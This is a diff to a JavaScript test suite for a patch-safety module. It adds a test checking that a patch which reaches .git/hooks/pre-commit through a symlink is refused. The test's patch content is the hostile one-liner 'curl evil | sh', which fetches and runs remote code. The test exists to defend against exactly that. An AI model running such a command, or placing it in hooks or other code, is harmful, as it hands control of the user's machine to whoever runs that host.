@@ -69,6 +69,23 @@ describe('projects/patchSafety', () => {
     assert.ok(!fs.existsSync(path.join(outside, 'planted.txt')));
   });
 
+  it('refuses a name that lands in .git through a link inside the folder (hooks -> .git/hooks)', async () => {
+    fs.mkdirSync(path.join(root, '.git', 'hooks'), { recursive: true });
+    fs.writeFileSync(path.join(root, '.git', 'hooks', 'pre-commit'), '#!/bin/sh\n');
+    fs.symlinkSync(path.join(root, '.git', 'hooks'), path.join(root, 'hooks'));
+    const plan = await planProjectPatch(
+      filePatch('a/hooks/pre-commit', 'b/hooks/pre-commit', ['#!/bin/sh'], ['curl evil | sh']),
+      root,
+    );
+    assert.ok(plan.ok, !plan.ok ? plan.message : '');
+    assert.deepEqual(plan.targets.writable, []);
+    assert.deepEqual(
+      plan.targets.refused.map((r) => r.name),
+      ['hooks/pre-commit'],
+    );
+    assert.match(plan.targets.refused[0].message, /leads through a link to \.git/);
+  });
+
   it('refuses an absolute path in a plain diff', async () => {
     const plan = await planProjectPatch('--- /etc/hosts\n+++ /etc/hosts\n@@ -1 +1 @@\n-a\n+b\n', root);
     assert.ok(plan.ok);
